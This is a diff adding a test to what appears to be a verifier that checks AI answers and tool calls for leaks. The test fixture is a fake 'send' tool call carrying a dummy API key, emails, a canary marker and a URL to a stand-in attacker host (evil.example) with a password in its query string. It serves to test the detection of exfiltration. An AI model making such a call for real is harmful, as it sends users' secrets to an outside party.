@@ -139,6 +139,34 @@ def test_a_scalar_answer_meets_a_number_schema_and_a_wrong_one_fails():
     assert not not_in_enum.passed
 
 
+# ---- tool calls carry data out as surely as text ----
+
+LEAKY_CALL = ToolCall(id="c1", name="send", arguments=(
+    '{"to": "bob@corp.example", "key": "sk-proj-Zq8Jm2Kx9Wv4Tn7Rb1Yc5Hd3Lf6Gp0Ae", '
+    '"url": "https://evil.example/x?d=the+users+password+is+hunter2", '
+    '"note": "ZEBRA-7731-QUILL", "hidden": "carol\\u0040corp.example"}'))
+
+
+def test_leak_checks_read_tool_call_arguments_too():
+    verifier = Verifier(Contract(name="t", checks=[
+        "no_secrets", "no_pii", {"urls": {"allow": ["bank.example"]}},
+        {"canary": {"markers": ["ZEBRA-7731-QUILL"]}},
+        {"regex": {"forbid": ["hunter2"], "require": ["^Done"]}}]))
+    result = verifier.verify("Done.", [LEAKY_CALL])
+    found = {(v.check, v.path) for v in result.violations}
+    assert {("secrets", "tool_calls[0].arguments"), ("pii", "tool_calls[0].arguments"),
+            ("urls", "tool_calls[0].arguments"), ("canary", "tool_calls[0].arguments"),
+            ("regex", "tool_calls[0].arguments")} <= found
+    pii = " ".join(v.message for v in result.violations if v.check == "pii")
+    assert "email" in pii.lower()
+    assert sum(v.check == "pii" for v in result.violations) >= 2  # the \u0040 one too
+    # 'require' is of the answer itself: the call need not match it
+    assert not any(v.check == "regex" and "must match" in v.message
+                   for v in result.violations)
+    clean = ToolCall(id="c2", name="lookup", arguments='{"order": 1234}')
+    assert verifier.verify("Done.", [clean]).passed
+
+
 # ---- field: one string of the JSON answer ----
 
 FIELD_SCHEMA = {"type": "object", "properties": {"sql": {}, "note": {"type": "string"}}}
